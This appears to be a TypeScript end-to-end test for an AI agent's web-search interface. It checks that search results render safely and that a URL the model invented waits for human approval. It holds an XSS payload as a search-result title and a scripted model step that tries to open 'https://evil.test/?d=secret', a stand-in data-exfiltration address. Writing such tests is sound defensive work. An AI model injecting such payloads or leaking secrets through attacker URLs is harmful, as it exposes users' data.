import assert from 'node:assert/strict';
import { after, afterEach, before, test } from 'node:test';
import type { Answer, Asked, Providers } from '#tests/upstreams/index.ts';
import { startTavily, tavilyKey, type Tavily } from '../web/emulators/tavily.ts';
import { assertFineEverywhere, type Visit } from './browser.ts';
import { beginThread, openDesk, type Desk } from './desk.ts';

const hostile = '<img src=x onerror="alert(1)"> ![x](https://evil.test/p.png) A title';
const pages = [
  { url: 'https://docs.test/guide', title: hostile, content: 'A guide.', published_date: '2026-10-10' },
  { url: `https://docs.test/long?d=${'x'.repeat(80)}`, title: 'Long', content: 'Long.' },
];

function model({ step }: Asked): Answer {
  if (step === 0) return { calls: [{ name: 'web_search', args: { query: 'guide' } }] };
  if (step === 1) return { calls: [{ name: 'read_page', args: { url: 'https://evil.test/?d=secret' } }] };
  return { text: 'Looked up.' };
}

let tavily: Tavily;
let desk: Desk;
let providers: Providers;
let visited: Visit;
before(async () => {
  tavily = await startTavily({ pages });
  desk = await openDesk(model, { TAVILY_API_KEY: tavilyKey, TAVILY_BASE_URL: tavily.url });
  ({ providers, visited } = desk);
});
afterEach(() => {
  assert.deepEqual(providers.mistakes, []);
  assert.deepEqual(visited.complaints, []);
});
after(async () => {
  await desk.close();
  await tavily.close();
});

test('the sources of a search stand in the timeline as text, and an address that the model made up waits for the person', async () => {
  const { page } = await beginThread(desk, visited.page, 'Look it up.');
  const review = page.getByRole('region', { name: 'Review' });
  await review.getByText('https://evil.test/?d=secret', { exact: true }).waitFor();
  await review.getByText('Opening it tells evil.test all of it.').waitFor();
  assert.deepEqual(
    tavily.requests.map(({ path }) => path),
    ['/search'],
  );
  const shown = async () => {
    await page.getByText('Searched the web for').click();
    const sources = page.getByRole('list', { name: 'Sources' });
    await sources.getByText('A title').waitFor();
    assert.equal(await sources.locator('img').count(), 0);
    // The long one is text only.
    assert.equal(await sources.getByRole('link').count(), 1);
    const link = sources.getByRole('link', { name: pages[0]?.url });
    assert.deepEqual(
      [await link.getAttribute('href'), await link.getAttribute('rel'), await link.getAttribute('target')],
      [pages[0]?.url, 'noopener noreferrer nofollow', '_blank'],
    );
    await page.getByText('Tavily · $0.008').waitFor();
  };
  await shown();
  await assertFineEverywhere(page, 'the sources of a search');
  await review.getByRole('button', { name: 'Reject' }).click();
  await page.getByRole('button', { name: 'Reject it' }).click();
  await page.getByText('Looked up.').waitFor();
  await page.reload();
  await page.getByText('Looked up.').waitFor();
  assert.deepEqual(
    tavily.requests.map(({ path }) => path),
    ['/search'],
  );
  const usage = await (await desk.crosspoint.request('GET', '/api/usage?groupBy=model')).json();
  assert.match(JSON.stringify(usage), /"tavily\/search"/);
});
